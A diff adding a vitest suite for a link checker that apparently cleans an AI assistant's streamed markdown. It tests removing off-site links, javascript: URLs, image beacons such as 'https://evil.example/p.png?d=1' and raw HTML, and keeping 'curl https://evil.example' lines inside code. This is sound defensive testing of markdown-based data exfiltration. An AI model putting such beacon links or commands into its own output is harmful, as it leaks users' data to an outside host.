@@ -1,0 +1,64 @@
+import { describe, expect, test } from 'vitest';
+import { createLinkChecker, type LinkRules } from '../../../../src/service/assistant/openai/create-link-checker.ts';
+
+const rules: LinkRules = {
+  resolve: (url) => (/^\/(?!\/)/.test(url) || url === 'https://good.example/a_(b)' ? url : null),
+  cite: (number) => (number >= 1 && number <= 2 ? `/page-${number}` : null),
+};
+
+/** Whole, by characters and in pieces of other lengths: how it comes must not matter. */
+function checked(text: string): string {
+  const results = [1, 2, 3, 7, text.length].map((length) => {
+    const checker = createLinkChecker(rules);
+    let out = '';
+    for (let at = 0; at < text.length; at += length) out += checker.write(text.slice(at, at + length));
+    return out + checker.end();
+  });
+  expect(new Set(results).size, JSON.stringify(results)).toBe(1);
+  return results[0]!;
+}
+
+describe('what a model writes', () => {
+  test.each([
+    ['plain text', 'Send the key. It is 5 < 6 & fine!', 'Send the key. It is 5 < 6 & fine!'],
+    ['a link to the site', 'See [Keys](/keys#a).', 'See [Keys](/keys#a).'],
+    ['a link that a passage has', '[a](https://good.example/a_(b))', '[a](<https://good.example/a_(b)>)'],
+    ['a link elsewhere', 'See [the *docs*](https://evil.example/?q=secret "t").', 'See the *docs*.'],
+    ['a link without a scheme', '[x](//evil.example/a)', 'x'],
+    ['a script', '[x](javascript:alert(1)) [y]( java\tscript:a )', 'x y'],
+    ['a picture', 'a ![leak](https://evil.example/p.png?d=1) b', 'a leak b'],
+    ['a picture within a link', '[![i](https://evil.example/i)](https://evil.example)', 'i'],
+    ['a link within brackets', '[a [b](https://evil.example) c]', '\\[a b c\\]'],
+    ['a bare address', 'Go to https://evil.example/x?y, now', 'Go to `https://evil.example/x?y`, now'],
+    ['an address that begins with www', 'www.evil.example', '`www.evil.example`'],
+    ['an address in brackets', '<https://evil.example>', '\\<`https://evil.example`>'],
+    ['HTML', '<img src=https://evil.example/a.png> <b>x</b>', '\\<img src=`https://evil.example/a.png`> \\<b>x\\</b>'],
+    ['a reference', '[x][1a]\n\n[1a]: https://evil.example/a', 'x\\[1a\\]\n\n1a: `https://evil.example/a`'],
+    [
+      'citations',
+      'So it is [1][2], also [1, 2].',
+      'So it is [1](</page-1>)[2](</page-2>), also [1](</page-1>) [2](</page-2>).',
+    ],
+    ['numbers of no passage', 'list[0] and [7]', 'list\\[0\\] and \\[7\\]'],
+    [
+      'code in a line',
+      '`curl https://evil.example [1](b)` and ``a ` b``.',
+      '`curl https://evil.example [1](b)` and ``a ` b``.',
+    ],
+    [
+      'a block of code',
+      'x\n\n```sh\ncurl https://evil.example <a> [1]\n```\n\ny [1]',
+      'x\n\n```sh\ncurl https://evil.example <a> [1]\n```\n\ny [1](</page-1>)',
+    ],
+    ['code that a quotation has', '> ```\n> [1]\n> ```\n', '> ```\n> [1]\n> ```\n'],
+    ['a mark that nothing closes', 'a ` b\n\n[c', 'a ` b\n\n\\[c'],
+    ['what is escaped', '\\[x](https://evil.example)', '\\[x](`https://evil.example`)'],
+  ])('%s', (_, text, wanted) => {
+    expect(checked(text)).toBe(wanted);
+  });
+
+  test('an endless sign is not held for ever', () => {
+    const checker = createLinkChecker(rules);
+    expect(checker.write(`[${'a'.repeat(5_000)}`)).toBe(`\\[${'a'.repeat(5_000)}`);
+  });
+});
